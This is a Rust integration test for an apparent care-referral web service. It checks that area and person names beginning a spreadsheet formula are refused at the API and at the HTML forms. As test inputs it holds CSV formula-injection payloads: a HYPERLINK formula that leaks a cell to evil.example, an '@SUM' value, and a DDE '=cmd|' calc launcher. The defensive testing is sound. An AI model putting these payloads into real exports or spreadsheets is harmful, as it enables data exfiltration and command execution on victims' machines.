//! Names a spreadsheet would run as a formula (`=…`, `+…`, `-…`, `@…`) are refused where they
//! enter the register, naming the field, so no export carries them; nothing changes.

mod support;

use homeward_domain::Role;
use homeward_store::Backend;
use support::{Caller, csrf_token};

#[tokio::test]
async fn names_beginning_a_formula_are_refused_by_the_api_and_the_forms() {
    let app = support::start(Backend::Sqlite).await;
    let area = app.ids.area.clone();
    let before = app.store.areas().await.unwrap();

    let answer = app
        .send_json(
            "PATCH",
            &format!("/api/v1/areas/{area}"),
            Caller::Client(Role::Commissioner),
            r#"{"name":"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"}"#,
        )
        .await;
    assert_eq!(answer.status, 422, "{}", answer.body);
    assert_eq!(answer.json()["error"]["field"], "name", "{}", answer.body);

    let page = app
        .post_form(
            &format!("/areas/{area}/edit"),
            Caller::Browser(Role::Commissioner),
            &format!(
                "csrf_token={}&name=%40SUM(A1)&district=Arun&tier=1",
                csrf_token(Role::Commissioner)
            ),
        )
        .await;
    assert_eq!(page.status, 422, "{}", page.body);
    assert!(page.body.contains("<a href=\"#name\">"), "{}", page.body);
    assert_eq!(app.store.areas().await.unwrap(), before, "an area changed");

    // Someone new on a referral, named like a formula: refused by the field, nobody stored.
    let people_before = app.store.people().await.unwrap().len();
    let today = jiff::Timestamp::now()
        .to_zoned(homeward_domain::london().clone())
        .date();
    let referral = app
        .post_form(
            "/referrals/new",
            Caller::Browser(Role::Broker),
            &format!(
                "csrf_token={}&council_reference=WSCC9990002&new_name=%3Dcmd%7C%27%2FC+calc%27%21A0\
                 &new_area={area}&new_support_reason=physical&visit_pattern=daily+08%3A00+45m&referred_on={today}\
                 &needed_by={today}&discharge_on=&route=community&funding_route=council-arranged",
                csrf_token(Role::Broker)
            ),
        )
        .await;
    assert_eq!(referral.status, 422, "{}", referral.body);
    assert!(
        referral.body.contains("<a href=\"#new_name\">"),
        "{}",
        referral.body
    );
    assert_eq!(app.store.people().await.unwrap().len(), people_before);
}
